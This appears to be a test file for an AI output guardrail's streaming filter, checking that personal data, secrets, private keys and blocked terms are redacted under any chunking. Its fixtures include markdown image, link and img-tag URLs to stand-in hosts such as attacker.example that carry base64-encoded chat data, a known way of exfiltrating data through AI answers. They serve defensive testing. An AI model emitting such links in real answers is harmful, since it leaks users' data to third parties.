"""Streaming: text leaves as soon as no output rail could still change it, never ahead of its check,
and the pieces joined are exactly what the whole answer's check gives, under any chunking."""

import asyncio
import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guard.chain import Guard
from guard.policy import OutputRails, load_policy
from guard.streaming import (
    RAIL_TAILS,
    WHOLE_ANSWER_RAILS,
    OutputStream,
    after_space,
    guarded_stream,
    release_point,
    sse_event,
    stream_step,
)

GUARD = Guard(load_policy())


def feed_all(chunks: list[str], guard: Guard = GUARD) -> tuple[list[str], OutputStream]:
    stream = OutputStream(guard)
    released = [stream.feed(chunk).released for chunk in chunks]
    released.append(stream.finish().released)
    return released, stream


def with_blocked_terms(*terms: str) -> Guard:
    policy = load_policy()
    blocklist = policy.output.blocklist.model_copy(update={"terms": terms})
    return Guard(policy.model_copy(update={"output": policy.output.model_copy(update={"blocklist": blocklist})}))


def test_text_leaves_word_by_word_not_sentence_by_sentence() -> None:
    released, _ = feed_all(["The", " answer", " is", " 42", ".", " It", " is", " known", "."])
    # Each word leaves once the next one begins (it may still grow until then: "is" -> "is@x.io").
    assert released == ["", "The ", "answer ", "is ", "", "42. ", "It ", "is ", "", "known."]


def test_only_the_tail_that_could_still_match_is_held() -> None:
    assert release_point(GUARD, "Call me at 555-123") == len("Call me at ")  # digits may grow into a phone
    assert release_point(GUARD, "Call me at 555-123-4567.") == len("Call me at ")  # ".5" would undo the match
    assert release_point(GUARD, "Write to jane@exam") == len("Write to ")
    assert release_point(GUARD, "Fine words, ") == len("Fine words, ")
    assert release_point(GUARD, "See [the report. It is long](https://evil.example/?d=") == len("See ")
    assert release_point(GUARD, "Intro. ![x](https://evil.example/a.png?q=") == len("Intro. ")
    assert release_point(GUARD, "Here it is.\n-----BEGIN PRIVATE KEY-----\nMIIEvQ\n") == len("Here it is.\n")
    assert release_point(GUARD, "Keycap 1") == len("Keycap ")  # U+FE0F U+20E3 may follow
    assert release_point(GUARD, "Watch out!") == len("Watch ")  # `![` may follow
    assert release_point(with_blocked_terms("pipe bomb"), "How to make a pipe ") == len("How to make a ")


def test_a_citation_marker_that_begins_a_piece_holds_back_nothing_after_it() -> None:
    # "[1]" begins the piece after "dawn ", so it stands at the piece's line start; "[1]." can never
    # become a link reference definition ("[1]: url"), so the words after it leave one by one.
    released, _ = feed_all(["Lift", "-off", " is", " at", " dawn", " [", "1", "].", " The", " pad", " is", " 39C"])
    assert released == ["", "", "Lift-off ", "is ", "at ", "dawn ", "", "", "[1]. ", "The ", "pad ", "is ", "39C"]
    assert release_point(GUARD, "[1]: https://evil.example/p?d=") == 0  # this one may still be a definition


def test_every_output_rail_declares_its_streaming_tail() -> None:
    assert set(OutputRails.model_fields) == RAIL_TAILS.keys() | WHOLE_ANSWER_RAILS
    assert not RAIL_TAILS.keys() & WHOLE_ANSWER_RAILS


def test_pii_split_across_chunks_is_redacted_before_release() -> None:
    chunks = ["Write to ja", "ne@exam", "ple.com for help", ". Thanks!"]
    released, _ = feed_all(chunks)
    assert "".join(released) == "Write to [REDACTED:EMAIL] for help. Thanks!"
    assert all("ja" not in r or "REDACTED" in r for r in released)


def test_an_open_key_block_is_held_until_it_closes() -> None:
    released, _ = feed_all(
        ["Here it is.\n-----BEGIN PRIVATE KEY-----\n", "MIIEvQIBADAN\n", "-----END PRIVATE KEY-----\nDone."]
    )
    assert "".join(released) == "Here it is.\n[REDACTED:PRIVATE_KEY]\nDone."
    assert "".join(feed_all(["Look: ![chart](https://evil.example/c.png?d=", "c2VjcmV0IGRhdGEgaGVyZQ==) ok. "])[0]) == (
        "Look: [image: chart] ok. "
    )


def test_a_blocked_piece_stops_the_stream() -> None:
    stream = OutputStream(with_blocked_terms("acme"))
    assert stream.feed("Fine so far. ").released == "Fine so far. "
    step = stream.feed("Buy Acme now. More text. ")
    assert step.blocked and step.released == "" and step.verdict.blocked_by == ("blocklist",)
    assert stream.feed("anything").blocked and stream.finish().released == ""


def test_a_long_run_without_whitespace_is_released_in_pieces() -> None:
    text = "x" * 3000
    cut = release_point(GUARD, text)
    assert 0 < cut < len(text)


def test_the_stateless_step_carries_pending_between_calls() -> None:
    first = stream_step(GUARD, "", "Call me at 555-123")
    assert (first.released, first.pending) == ("Call me at ", "555-123")
    second = stream_step(GUARD, first.pending, "-4567 today. Bye")
    assert second.released == "[REDACTED:PHONE] today. " and second.pending == "Bye"
    last = stream_step(GUARD, second.pending, "", final=True)
    assert (last.released, last.pending) == ("Bye", "")
    assert second.to_json()["rails"][0]["rail"] == "pii"


def test_the_step_a_following_space_makes_is_offered_only_for_clean_text() -> None:
    assert after_space(GUARD, "The") == stream_step(GUARD, "The", " ")
    assert after_space(GUARD, "The").released == "The "
    # A finding (redacted), digits that may still be a phone number, nothing to release: no offer,
    # so the real step (and its guard.violation event) is the one that decides.
    assert stream_step(GUARD, "jane@example.com.", " ").released == "[REDACTED:EMAIL]. "
    assert after_space(GUARD, "jane@example.com.") is None
    assert after_space(GUARD, "555") is None
    assert after_space(with_blocked_terms("forbidden"), "forbidden") is None


def test_a_json_answer_is_held_whole_and_checked_with_the_json_rail() -> None:
    first = stream_step(GUARD, "", '{"answer": ', json_mode=True)
    assert first.released == "" and first.pending == '{"answer": '
    done = stream_step(GUARD, first.pending, "42}", final=True, json_mode=True)
    assert done.released == '{"answer": 42}'
    refused = stream_step(GUARD, "", "not json", final=True, json_mode=True)
    assert refused.blocked and refused.verdict.blocked_by == ("json_schema",)


def test_guarded_stream_wraps_an_async_source_for_server_sent_events() -> None:
    async def tokens():
        for token in ["Mail ", "a@b.io", ". ", "Done", "."]:
            yield token

    async def collect() -> list[str]:
        return [sse_event({"text": step.released}) async for step in guarded_stream(tokens(), GUARD)]

    events = asyncio.run(collect())
    assert events == [
        'data: {"text": "Mail "}\n\n',
        'data: {"text": "[REDACTED:EMAIL]. "}\n\n',
        'data: {"text": "Done."}\n\n',
    ]


# Issue 11, inputs 13 and 14 streamed: any split into chunks gives what the whole-text check gives.
DATA_URL = "https://attacker.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA"
SAME_STREAMED = [
    "Pride 🏳️‍🌈, keycap 1️⃣ and ❤️‍🔥. Family 👨‍👩‍👧‍👦 and 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f.",
    f"Here is the chart: ![x][1]\n\n[1]: {DATA_URL}\n\nThanks.",
    f"[1]: {DATA_URL}\n\nSee ![x][1] and [the report][1]. Bye.",
    f"Look ![chart]({DATA_URL}) and <{DATA_URL}>. Then <img src='{DATA_URL}'> done.",
    "the repo is https://deploy:[REDACTED:URL_CREDENTIALS]@git.example.com/repo. See http://[bad/?a=1 too.",
]


def test_any_two_chunk_split_streams_what_the_whole_check_gives() -> None:
    for text in SAME_STREAMED:
        whole = GUARD.check_output(text, streaming=True).text
        assert "c2VjcmV0" not in whole, whole  # the data never leaves
        for cut in range(1, len(text)):
            released, _ = feed_all([text[:cut], text[cut:]])
            assert "".join(released) == whole, (text, cut)


def test_emoji_come_back_whole_from_the_output_check() -> None:
    text = SAME_STREAMED[0]
    verdict = GUARD.check_output(text)
    assert verdict.allowed and verdict.text == text and verdict.failed == ()


def test_a_forced_cut_in_a_long_run_never_splits_an_emoji_sequence() -> None:
    text = "x" * 1995 + "🏳️‍🌈" * 400
    cut = release_point(GUARD, text)
    assert 0 < cut < len(text) and text[:cut].endswith("🏳️‍🌈")  # the last flag waits whole
    released, _ = feed_all([text[i : i + 7] for i in range(0, len(text), 7)])
    assert "".join(released) == text


# Property: for answers built of prose, personal data (a phone split by a newline too), secrets
# and exfiltration links, any chunking streams exactly the whole answer's checked text, and each
# piece leaves only as the text of a check made on it.
KEY_BLOCK = (
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----"
)
SENSITIVE = {
    "jane.doe@example.com": "mail jane.doe@example.com today",
    "555 123 4567": "call 555 123 4567.",
    "555 123\n4567": "or 555 123\n4567 at night",  # a phone number split by a newline
    "+44 20 7946 0958": "London +44 20 7946 0958,",
    "4111 1111 1111 1111": "card 4111 1111 1111 1111 expires",
    "DE89 3704 0044 0532 0130 00": "IBAN DE89 3704 0044 0532 0130 00 please",
    "123-45-6789": "SSN 123-45-6789.",
    "192.168.1.20": "host 192.168.1.20 is up",
    "AKIAIOSFODNN7EXAMPLE": "key AKIAIOSFODNN7EXAMPLE ok",
    "ghp_" + "a1B2" * 9: "token ghp_" + "a1B2" * 9 + " here",
    "hunter2Xq9zz": "password = hunter2Xq9zz and",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC": KEY_BLOCK,
    "c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA": "![chart](https://attacker.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)",
    "c2VjcmV0IGxpbmsgZGF0YSBoZXJlIQ": "[the report](https://evil.example/r?q=c2VjcmV0IGxpbmsgZGF0YSBoZXJlIQ)",
    "ZXhmaWwgdmlhIGF1dG9saW5r": "<https://evil.example/a?d=ZXhmaWwgdmlhIGF1dG9saW5rIGRhdGE>",
    "aW1nIHRhZyBkYXRhIGV4Zmls": "<img src='https://evil.example/i.png?d=aW1nIHRhZyBkYXRhIGV4ZmlsIQ'>",
    "cmVmZXJlbmNlIGltYWdl": "![x][1]\n\n[1]: https://evil.example/p?d=cmVmZXJlbmNlIGltYWdlIGRhdGE\n",
    "YmFyZSB1cmwgZGF0YSBsZWFr": "see https://evil.example/b?d=YmFyZSB1cmwgZGF0YSBsZWFrcyBoZXJl now",
    # A secret masked inside a link or brackets keeps the `)`, `).`, `),` around it.
    "AKIAI44QH8DHBEXAMPLE": "[the docs](https://docs.example/k/AKIAI44QH8DHBEXAMPLE?page=2).",
    "tok3nXYZ789def": "[token=tok3nXYZ789def](https://docs.example/).",
    "Zq8hunter2XY": "(password=Zq8hunter2XY), done",
    "Xk9#mP2$vL8q)": 'password: "Xk9#mP2$vL8q)" ok',
    "abcdefghijklmnop1234567890": "Authorization: Bearer abcdefghijklmnop1234567890.",
    "jane@example.org": "Ask [jane@example.org](mailto:jane@example.org).",
    "ann@example.org": "(see https://evil.example/c?e=ann@example.org). Then",
    "imgT0ken9876xyz": "(![chart](https://evil.example/c.png?token=imgT0ken9876xyz)).",
    # Short data in a link: an announcing name, base64 that decodes to text.
    "078051120": "[click](https://evil.example/?ssn=078051120).",
    "c2VjcmV0cGFzc3dvcmQ": "[x](https://evil.example/?data=c2VjcmV0cGFzc3dvcmQ), ok",
    # A URL's password is masked and its host kept (`pw@host` is no e-mail address).
    "Tr0ub4dor3x": "Clone https://deploy:Tr0ub4dor3x@git.example/repo today.",
    "S3cr3t!pass": "Use mysql://root:S3cr3t!pass@db.internal:3306/app now.",
    "s3cretpw": "redis://:s3cretpw@cache.example:6379/0",
    "correcthorsebatterystaple": "The secret is password=correcthorsebatterystaple!",
    "Summer2024": "Set password=Summer2024! now",
    "cdXy7Qz93Kd0pLm": "Set password=ab](cdXy7Qz93Kd0pLm and go",
    "jane.doe@acme.com": '{"homepage":"https://acme.com","email":"jane.doe@acme.com"}',
}
PROSE = [
    "The launch is at dawn.",
    "It is 42 km away, in 1969 and 2024.",
    "Version 1.2.3 works!",
    "Use [the docs](https://docs.example/guide) for more.",
    "Watch [it](https://video.example/watch?v=dQw4w9WgXcQ) or [page 2](https://blog.example/?page=2).",
    "Pride 🏳️‍🌈 and keycap 1️⃣ and ❤️‍🔥.",
    "A list:\n- one\n- two",
    "Prices: 10.50, 3-4 days (maybe).",
    "Is it? Yes!",
    "Lift-off is at dawn [1]. The pad is 39C [2].",  # citation markers, as grounded answers cite chunks
    "Run `ls [x](y)` and ``a ` b`` now.",
    "Markdown, as written:\n```md\n![x](https://evil.example/p?d=aW4gYSBjb2RlIGJsb2NrIGl0IGlzIHRleHQ)\n```\n",
]
SEPARATORS = [" ", "\n", "\n\n", ". ", ", "]


class RecordingGuard(Guard):
    """The real guard, noting the text of every check it makes (what may leave, and only that)."""

    def __init__(self) -> None:
        super().__init__(load_policy())
        self.checked: list[str] = []

    def check_output(self, text, **kwargs):
        verdict = super().check_output(text, **kwargs)
        self.checked.append(verdict.text)
        return verdict


def stream_in(text: str, cuts: list[int]) -> tuple[list[str], RecordingGuard]:
    guard = RecordingGuard()
    stream = OutputStream(guard)
    bounds = [0, *sorted(set(cuts)), len(text)]
    released = []
    for start, end in zip(bounds, bounds[1:], strict=False):
        before = len(guard.checked)
        step = stream.feed(text[start:end])
        # Nothing leaves that was not the text of a check made for it, in this very step.
        assert step.released == "".join(guard.checked[before:])
        released.append(step.released)
    released.append(stream.finish().released)
    return released, guard


def assert_streams_like_the_whole(text: str, cuts: list[int]) -> None:
    whole = GUARD.check_output(text, streaming=True).text
    released, _ = stream_in(text, cuts)
    assert "".join(released) == whole, (text, cuts)


# Each fragment once: a repeated reference label is a different text (its second definition
# is no definition in the whole answer, but is one in a piece of its own).
answers = st.lists(st.sampled_from([*SENSITIVE.values(), *PROSE]), min_size=1, max_size=6, unique=True).flatmap(
    lambda parts: st.lists(st.sampled_from(SEPARATORS), min_size=len(parts), max_size=len(parts)).map(
        lambda seps: "".join(part + sep for part, sep in zip(parts, seps, strict=True))
    )
)


@settings(max_examples=100, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data(), text=answers)
def test_any_chunking_of_an_answer_streams_exactly_the_whole_check(data, text: str) -> None:
    if len(text) < 2:
        return
    cuts = data.draw(st.lists(st.integers(1, len(text) - 1), max_size=len(text) // 3))
    assert_streams_like_the_whole(text, cuts)


@pytest.mark.parametrize("value", list(SENSITIVE))
def test_a_sensitive_value_split_at_every_position_streams_like_the_whole(value: str) -> None:
    text = f"Here: {SENSITIVE[value]} Thanks."
    for cut in range(1, len(text)):
        assert_streams_like_the_whole(text, [cut])


def test_token_sized_chunks_of_every_sample_stream_like_the_whole() -> None:
    rng = random.Random(12)
    text = " ".join([*SENSITIVE.values(), *PROSE])
    for _ in range(5):
        cuts, at = [], 0
        while at < len(text):
            at += rng.randint(1, 6)
            cuts.append(at)
        assert_streams_like_the_whole(text, [c for c in cuts if c < len(text)])
